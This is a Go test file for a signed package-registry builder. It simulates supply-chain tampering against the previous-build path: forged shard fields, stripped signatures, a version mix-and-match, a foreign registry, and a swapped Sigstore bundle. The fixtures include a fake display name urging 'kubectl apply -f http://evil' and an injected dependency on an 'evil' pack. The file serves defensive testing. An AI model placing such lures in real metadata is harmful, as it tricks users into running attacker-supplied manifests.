package build

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/packgen/packgen/index"
	"github.com/packgen/packgen/internal/gitfixture"
	"github.com/packgen/packgen/internal/testutil"
	"github.com/packgen/packgen/pack/meta"
	"github.com/packgen/packgen/sign"
)

// Second round of attacks on `build --previous` (the attacker's-eye
// review after issue 14): what the shard says about a release beside its
// archive. An archive's signature covers only the archive; the fields
// of its shard entry (dependencies, annotations, displayName, commit,
// dir, version) are vouched for by the signed index.json alone. A build
// that takes them from a previous build whose index.json it could not
// verify re-signs them on the bucket's word.

// stripRootSignatures deletes every signature of index.json from site,
// as an attacker who rewrote it must (it cannot sign the new one): the
// previous build then looks like an unsigned registry.
func stripRootSignatures(t *testing.T, site string) {
	t.Helper()
	for _, f := range []string{"index.json.sig", "index.json.sigstore.json", "signatures"} {
		must(t, os.RemoveAll(filepath.Join(site, f)))
	}
}

func releaseOf(res *Result, name, version string) *index.Release {
	for _, s := range res.Shards {
		if s.Name != name {
			continue
		}
		for i := range s.Releases {
			if s.Releases[i].Version == version {
				return &s.Releases[i]
			}
		}
	}
	return nil
}

// TestAttackPreviousRewritesReusedFields: the release is still in git and
// its archive is untouched (it passes the digest and the comparison with
// git), but the attacker rewrote its shard entry: a dependency on the
// attacker's pack, system_state: deleted (hiding it from constraints), a
// new displayName, another commit. The new, signed index must say what
// git says, or the build must refuse; it must never sign the forged
// fields.
func TestAttackPreviousRewritesReusedFields(t *testing.T) {
	f := newAttackFixture(t)
	fresh := built(t, f.repo.Dir, filepath.Join(f.tmp, "fresh"), f.signed)
	want := *releaseOf(fresh, "calico", "3.27.0")

	site := filepath.Join(f.tmp, "evil-site")
	testutil.CopyDir(t, f.published, site)
	testutil.ForgeShard(t, site, "calico", func(s *index.Shard) {
		r := &s.Releases[0]
		r.DisplayName = "Calico (security update: run kubectl apply -f http://evil)"
		r.Dependencies = append(r.Dependencies, meta.Dependency{PackName: "evil", Type: "required", MinVersion: "6.6.6"})
		r.Annotations = map[string]string{"system_state": "deleted"}
		r.Commit = "0123456789abcdef0123456789abcdef01234567"
	})
	stripRootSignatures(t, site)
	out, err := f.rebuildAgainst(t, site)
	if err != nil {
		if !errors.Is(err, ErrUntrustedPrevious) && !errors.Is(err, ErrUnverifiedRelease) && !errors.Is(err, ErrTampered) {
			t.Fatalf("refused with %v, want a trust error", err)
		}
		return
	}
	prev, err := loadPrevious(t.Context(), out, f.trust)
	must(t, err)
	got := prev.shards["calico"].Releases[0]
	if got.DisplayName != want.DisplayName || !reflect.DeepEqual(got.Dependencies, want.Dependencies) ||
		!reflect.DeepEqual(got.Annotations, want.Annotations) || got.Commit != want.Commit {
		t.Fatalf("the build signed the attacker's shard fields:\n got  %+v\n want %+v", got, want)
	}
}

// TestAttackPreviousRewritesCarriedFields: calico@3.26.0 is no longer in
// git and is carried over with its valid old signature; the attacker
// leaves archive and signature alone and rewrites its shard entry, and
// also lists the signed 3.26.0 archive as a new version 9.9.9 (a
// mix-and-match: old content under the version every constraint now
// resolves to). Nothing vouches for those fields but the bucket: refused.
func TestAttackPreviousRewritesCarriedFields(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(t *testing.T, site string, s *index.Shard)
	}{
		{"fields", func(t *testing.T, site string, s *index.Shard) {
			for i := range s.Releases {
				if s.Releases[i].Version == "3.26.0" {
					s.Releases[i].Dependencies = []meta.Dependency{{PackName: "evil", Type: "required"}}
					s.Releases[i].Annotations = map[string]string{"system_state": "deprecated"}
				}
			}
		}},
		{"version", func(t *testing.T, site string, s *index.Shard) {
			for i := range s.Releases {
				r := &s.Releases[i]
				if r.Version != "3.26.0" {
					continue
				}
				c := *r
				c.Version = "9.9.9"
				c.Archive.Path = "packs/calico/9.9.9/calico-3.26.0.tar.gz"
				c.Signature = "packs/calico/9.9.9/calico-3.26.0.tar.gz.sig"
				c.Bundle = ""
				copyFile(t, filepath.Join(site, filepath.FromSlash(r.Archive.Path)), filepath.Join(site, filepath.FromSlash(c.Archive.Path)))
				copyFile(t, filepath.Join(site, filepath.FromSlash(r.Signature)), filepath.Join(site, filepath.FromSlash(c.Signature)))
				s.Releases = append(s.Releases, c)
				return
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newAttackFixture(t)
			// The published registry once held calico@3.26.0; the
			// repository is rewritten without it (a squashed history).
			must(t, os.RemoveAll(f.published))
			oldRepo, err := gitfixture.Init(filepath.Join(f.tmp, "old-repo"))
			must(t, err)
			writePack(t, oldRepo, "packs/calico-3.26.0", "calico", "3.26.0", "cni", "")
			commit(t, oldRepo, "3.26")
			writePack(t, oldRepo, "packs/calico-3.27.0", "calico", "3.27.0", "cni", "")
			must(t, os.RemoveAll(filepath.Join(oldRepo.Dir, "packs/calico-3.26.0")))
			commit(t, oldRepo, "3.27")
			built(t, oldRepo.Dir, f.published, f.signed)

			site := filepath.Join(f.tmp, "evil-site")
			testutil.CopyDir(t, f.published, site)
			testutil.ForgeShard(t, site, "calico", func(s *index.Shard) { tc.edit(t, site, s) })
			stripRootSignatures(t, site)
			out, err := f.rebuildAgainst(t, site)
			if err == nil {
				res, _ := loadPrevious(t.Context(), out, f.trust)
				t.Fatalf("the build signed a carried release on the bucket's word: %+v", res.shards["calico"].Releases)
			}
			refused(t, out, err, ErrUnverifiedRelease)
		})
	}
}

// TestAttackPreviousOtherRegistry: one key signs two registries (acme and
// acme-internal, say). A CDN or bucket that serves acme-internal's
// genuine, validly signed build at acme's --previous URL must not get
// its packs carried into acme's index: the previous build's registry
// name is part of what its signature vouches for.
func TestAttackPreviousOtherRegistry(t *testing.T) {
	f := newAttackFixture(t)
	r, err := gitfixture.Init(filepath.Join(f.tmp, "internal-repo"))
	must(t, err)
	writePack(t, r, "packs/secret-1.0.0", "secret", "1.0.0", "addon", "")
	commit(t, r, "internal")
	other := filepath.Join(f.tmp, "internal-site")
	built(t, r.Dir, other, f.signed, func(o *Options) { o.Registry = "test-internal" })
	out, err := f.rebuildAgainst(t, other)
	if err == nil {
		prev, _ := loadPrevious(t.Context(), out, f.trust)
		if prev.shards["secret"] != nil {
			t.Fatalf("registry test signed test-internal's secret@1.0.0, carried from the other registry's build")
		}
		return
	}
	refused(t, out, err, ErrUntrustedPrevious)
	if !strings.Contains(err.Error(), `"test-internal"`) {
		t.Errorf("error does not name the other registry: %v", err)
	}
}

// TestAttackPreviousStaleBundle: nothing pins a release's Sigstore bundle
// (the index names it; only its .sig is checked against the archive). A
// bundle swapped in the bucket for another archive's, beside the intact
// .sig and index, must not be published again: `cosign verify-blob
// --bundle` users would get the attacker's file.
func TestAttackPreviousStaleBundle(t *testing.T) {
	f := newAttackFixture(t)
	writePack(t, f.repo, "packs/calico-3.28.0", "calico", "3.28.0", "cni", "")
	commit(t, f.repo, "3.28")
	built(t, f.repo.Dir, f.published, f.signed)
	site := filepath.Join(f.tmp, "evil-site")
	testutil.CopyDir(t, f.published, site)
	a := filepath.Join(site, "packs/calico/3.27.0/calico-3.27.0.tar.gz.sigstore.json")
	copyFile(t, filepath.Join(site, "packs/calico/3.28.0/calico-3.28.0.tar.gz.sigstore.json"), a)
	out, err := f.rebuildAgainst(t, site)
	must(t, err)
	prev, err := loadPrevious(t.Context(), out, f.trust)
	must(t, err)
	for _, r := range prev.shards["calico"].Releases {
		bdata, err := os.ReadFile(filepath.Join(out, filepath.FromSlash(r.Bundle)))
		must(t, err)
		sdata, err := os.ReadFile(filepath.Join(out, filepath.FromSlash(r.Signature)))
		must(t, err)
		b, err := sign.ParseBundle(bdata)
		must(t, err)
		raw, err := sign.DecodeSigFile(sdata)
		must(t, err)
		if !bytes.Equal(b.Raw, raw) {
			t.Errorf("calico@%s: published bundle %s holds another signature than %s", r.Version, r.Bundle, r.Signature)
		}
	}
}
